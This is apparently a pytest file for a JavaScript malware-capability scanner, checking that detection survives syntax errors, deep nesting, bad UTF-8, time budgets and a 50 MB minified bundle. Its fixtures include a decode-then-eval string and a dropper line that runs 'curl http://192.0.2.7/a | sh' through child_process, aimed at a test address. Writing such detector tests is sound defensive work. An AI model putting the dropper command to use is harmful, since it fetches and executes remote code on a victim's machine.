"""Bad JavaScript: what tree-sitter cannot parse fully is analysed where it parsed, plus the
text rules, marked ``scan.unparsed`` where the tree gave up, in bounded time and memory.

Every fixture is built in code; addresses are TEST-NET or ``.invalid``.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

from app.core.capabilities import jsparse
from app.core.capabilities.javascript import scan_javascript

ROOT = Path(__file__).resolve().parents[3]
EVAL = "eval(atob('YWxlcnQoMSk='));"  # alert(1)
DROPPER = "require('child_process').exec('curl http://192.0.2.7/a | sh');"


def caps(hits) -> set[str]:
    return {h.capability for h in hits}


def unparsed(hits) -> list:
    return [h for h in hits if h.capability == "scan.unparsed"]


def test_syntax_errors_keep_what_parsed_and_say_so():
    src = EVAL + "\nfunction ( {{ ]]\n" + DROPPER + "\n"
    hits, note = scan_javascript("broken.js", src, "code")
    assert note and "syntax errors" in note
    assert {"exec.decode_then_exec", "process.shell_download", "scan.unparsed"} <= caps(hits)


def test_ten_thousand_unclosed_brackets_are_marked_and_the_rest_still_read():
    src = EVAL + "\nx = " + "[(" * 10_000 + "\n" + DROPPER + "\n"
    hits, note = scan_javascript("deep.js", src, "code")
    assert note is not None and unparsed(hits)
    assert {"exec.decode_then_exec", "process.shell_download"} <= caps(hits)


def test_ten_thousand_deep_balanced_nesting_parses_without_recursion_errors():
    src = "x = " + "[" * 10_000 + "]" * 10_000 + ";\n" + EVAL + "\n"
    hits, _note = scan_javascript("nested.js", src, "code")
    assert "exec.decode_then_exec" in caps(hits)


def test_invalid_utf8_is_read_around_the_bad_bytes():
    raw = b"var junk = '\xff\xfe\xc3';\n" + EVAL.encode() + b"\n\xc3(\n"
    text = raw.decode("utf-8", "surrogateescape")
    hits, note = scan_javascript("bad-utf8.js", text, "code")
    assert "exec.decode_then_exec" in caps(hits)
    assert note and unparsed(hits)  # the stray "\xc3(" at the end does not parse


def test_out_of_time_the_rest_is_left_to_the_text_rules(monkeypatch):
    monkeypatch.setattr(jsparse, "FILE_BUDGET_S", 0.0)
    src = EVAL + "\n" + "var a = 1;\n" * 50 + DROPPER + "\n"
    hits, note = scan_javascript("slow.js", src, "code")
    assert note and "took too long" in note and unparsed(hits)
    # the tree gave up; the pattern rules still see the dropper
    assert "process.shell_download" in caps(hits)


_BUNDLE_CHILD = textwrap.dedent(
    """
    import sys
    from app.core.capabilities import jsparse
    from app.core.capabilities.javascript import scan_javascript
    jsparse.FILE_BUDGET_S = float(sys.argv[1])
    module = "function(e,t,n){var r=n(12),o=function(e){return e&&e.__esModule?e:{default:e}};" \\
        "t.f=function(a,b){for(var i=0;i<a.length;i++)b.push(o(a[i]).default);return b}}"
    parts = ["!function(e){var t={};function n(r){return e[r](t,t,n)}n(0)}(["]
    parts.append("function(e,t,n){%s},")
    size = 0
    while size < 50 * 1024 * 1024:
        parts.append(module + ","); size += len(module) + 1
    parts.append("function(e,t,n){%s}]);")
    bundle = "".join(parts) % (sys.argv[2], sys.argv[3])
    del parts
    hits, note = scan_javascript("dist/bundle.min.js", bundle, "code")
    # this process's own peak (VmHWM): ru_maxrss would carry the parent's, taken at exec
    status = open("/proc/self/status").read().splitlines()
    peak = next(int(x.split()[1]) for x in status if x.startswith("VmHWM:")) // 1024
    print(sorted({h.capability for h in hits}), "|", note, "|", peak)
    """
)


def test_fifty_megabyte_minified_bundle_in_bounded_memory_and_time():
    """One line of 50 MB: parsed in pieces until the (shortened) budget, then text rules;
    peak memory of the whole process, bundle included, under 500 MB."""
    out = subprocess.run(
        [sys.executable, "-c", _BUNDLE_CHILD, "3", EVAL, DROPPER],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-2000:]
    found, note, peak = out.stdout.strip().rsplit("\n", 1)[-1].split(" | ")
    assert "scan.unparsed" in found and "MB" in note
    assert "exec.decode_then_exec" in found  # the tree read the first piece
    assert "process.shell_download" in found  # the text rules read the last bytes
    assert int(peak) < 500, f"peak {peak} MB"


def test_pathological_input_is_parsed_in_small_pieces_ordinary_code_in_large_ones():
    """A tree costs ~55 bytes per byte of ordinary code but up to ~320 on unclosed brackets:
    such input gets the small pieces even when it starts with ordinary code."""
    ordinary = "function f(a, b) { return a + b; }\n" * 70_000  # 2.4 MB
    sizes = [len(p.src) for p in jsparse.parse_pieces("a.js", ordinary)]
    assert sum(sizes) == len(ordinary) and len(sizes) == 2 and sizes[0] > jsparse.SMALL_PIECE
    hostile = "var a = 1;\n" * 10_000 + "x = " + "[(" * 300_000
    sizes = [len(p.src) for p in jsparse.parse_pieces("b.js", hostile)]
    assert sum(sizes) == len(hostile) and max(sizes) <= jsparse.SMALL_PIECE
